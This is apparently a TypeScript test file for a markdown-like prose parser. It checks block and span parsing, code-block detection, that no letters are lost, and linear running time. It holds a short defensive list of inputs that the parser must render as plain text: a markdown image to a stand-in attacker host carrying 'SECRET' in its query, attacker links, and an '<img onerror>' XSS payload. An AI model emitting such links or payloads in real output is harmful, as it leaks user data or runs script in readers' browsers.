import { expect } from "chai";
import fc from "fast-check";
import { blocksOf } from "../../widget/prose.ts";
import type { Block } from "../../widget/prose.ts";

function linesOf(block: Block): readonly string[] {
  if (block.kind === "code") return [block.label, block.text].filter((part) => part !== "");
  const all = block.kind === "paragraph" ? [block.spans] : block.items;
  return all.map((spans) => spans.map(({ text }) => text).join(""));
}
const textOf = (blocks: readonly Block[]): string => blocks.flatMap(linesOf).join("\n");
const code = (text: string, label = "") => ({ kind: "code", label, text });
const kinds = (text: string) => blocksOf(text).map(({ kind }) => kind);

const CHARS = Array.from("ab <>!*_`-1.)\n•[](");

describe("prose", () => {
  it("knows paragraph, list, code, strong and emphasis", () => {
    expect(
      blocksOf("One **two** `three`\nfour _five_ *six*.\n\n- a\n- b\n  goes on\n\n1. c"),
    ).to.deep.equal([
      {
        kind: "paragraph",
        spans: [
          { kind: "text", text: "One " },
          { kind: "strong", text: "two" },
          { kind: "text", text: " " },
          { kind: "code", text: "three" },
          { kind: "text", text: "\nfour " },
          { kind: "emphasis", text: "five" },
          { kind: "text", text: " " },
          { kind: "emphasis", text: "six" },
          { kind: "text", text: "." },
        ],
      },
      {
        kind: "list",
        ordered: false,
        items: [[{ kind: "text", text: "a" }], [{ kind: "text", text: "b goes on" }]],
      },
      { kind: "list", ordered: true, items: [[{ kind: "text", text: "c" }]] },
    ]);
  });

  for (const text of [
    "![x](https://attacker.test/p.png?q=SECRET)",
    "[a](https://attacker.test/)",
    "<img src=x onerror=alert(1)>",
    "# Package says",
    "[ref]: https://attacker.test/",
    "<https://attacker.test/>",
    "a | b\n--- | ---",
    "snake_case_name and 2*3*4 and 5 * 6 * 7",
  ]) {
    it(`leaves ${JSON.stringify(text)} as text`, () => {
      expect(kinds(text)).to.deep.equal(["paragraph"]);
      expect(textOf(blocksOf(text))).to.equal(text);
    });
  }

  it("keeps where a short line ends, and joins a line that only wraps", () => {
    const wrapped = `${"word ".repeat(14)}\nthat goes on.`;
    expect(textOf(blocksOf("Status\nApproved."))).to.equal("Status\nApproved.");
    expect(textOf(blocksOf(wrapped))).to.equal(wrapped.replace("\n", "").replace(/ +/g, " "));
  });

  describe("code", () => {
    it("keeps every line between fences, and what the fence calls it", () => {
      const text = "Set it:\n\n```ini\n[cache]\n\n  - a\n~~~\n``\n```\nThen start.";
      const [, block, after] = blocksOf(text);
      expect(block).to.deep.equal(code("[cache]\n\n  - a\n~~~\n``", "ini"));
      expect(after).to.include({ kind: "paragraph" });
      expect(blocksOf("~~~~\na\n~~~\nb")).to.deep.equal([code("a\n~~~\nb")]);
    });

    // As a page's own blocks arrive in a passage: without fences, the first indent lost to the quote.
    for (const [what, text] of [
      ["an indent", '{ "id": "2026-118",\n  "kind": "revoke" }'],
      ["columns", "rank  section  read\n1     limits   allow"],
      ["settings", "enabled = true\nbackend = dogpile.cache"],
      ["a program", "let a = 1;\nlet b = 2;\n\nreturn a + b;\nend();"],
      ["a drawn table", "+-----+----+\n| a   | b  |\n+-----+----+"],
      ["a command", "$ pip install tox"],
    ] as const) {
      it(`is known by ${what}`, () => {
        expect(blocksOf(text)).to.deep.equal([code(text)]);
      });
    }

    it("is not seen in prose", () => {
      for (const text of [
        "One sentence.  Two spaces after it.\nAnd another:  so it is.",
        "First line\nSecond line\nThird line, all of them short",
        "It costs $ 5 in all.",
        "a = b",
      ]) {
        expect(kinds(text), text).to.deep.equal(["paragraph"]);
      }
      expect(kinds("- one\n  goes on\n- two")).to.deep.equal(["list"]);
    });
  });

  it("loses no letter of any text", () => {
    const letters = (text: string) => text.replace(/[\s*_`•\-.)\d]/g, "");
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...CHARS) }), (text) => {
        expect(letters(textOf(blocksOf(text)))).to.equal(letters(text));
      }),
    );
  });

  for (const unit of [
    "*",
    "**",
    "`",
    "_a",
    "*a",
    "- ",
    "**a*",
    "`a\n",
    "1. ",
    "\n",
    " ",
    "a_",
    "```\n",
    "a  ",
    "  \n",
    "```a",
    "x=\n",
  ]) {
    it(`takes time linear in ${JSON.stringify(unit)} repeated`, () => {
      const started = performance.now();
      blocksOf(unit.repeat(50_000));
      expect(performance.now() - started).to.be.below(1000);
    });
  }
});
